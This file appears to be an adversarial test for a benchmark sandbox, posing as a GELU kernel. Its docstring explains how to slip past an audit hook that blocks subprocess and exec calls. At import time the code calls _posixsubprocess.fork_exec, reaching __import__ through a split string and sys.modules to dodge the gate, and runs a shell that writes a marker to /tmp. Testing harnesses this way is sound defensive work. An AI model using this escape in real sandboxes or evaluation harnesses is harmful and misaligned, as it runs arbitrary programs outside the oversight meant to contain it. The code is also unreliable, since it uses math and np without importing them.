"""S2 fork_exec: _posixsubprocess runs a program and raises no audit event.

Sandbox escape (issue 8, class 1). The hook refuses "subprocess.Popen", "os.system", "os.exec*",
"os.fork"..., but ``_posixsubprocess.fork_exec`` (what Popen calls after raising its event) raises none,
so any program runs, outside the audit hook and with the worker's privileges. The program here only
leaves a marker in /tmp. ``__import__`` is reached with getattr on ``sys.modules["builtins"]``, a root
the gate does not track.
"""

from numpy.lib._utils_impl import os, sys

_C = math.sqrt(2.0 / math.pi)


def _run(argv):
    imp = getattr(sys.modules["builtins"], "__im" + "port__")
    ps = imp("_posixsubprocess")
    r, w = os.pipe()
    try:
        pid = ps.fork_exec([a.encode() for a in argv], [argv[0].encode()], True, (w,), None, None,
                           -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1, None, True)
    finally:
        os.close(w)
    os.read(r, 64)
    os.close(r)
    try:
        os.waitpid(pid, 0)
    except OSError:
        pass


try:
    _run(["/bin/sh", "-c", "echo a candidate ran a shell > /tmp/kbench_adv_S2_exec"])
except Exception:
    pass


def forward(x, params, alloc):
    a = x["x"]
    return 0.5 * a * (1.0 + np.tanh(_C * (a + 0.044715 * a**3)))
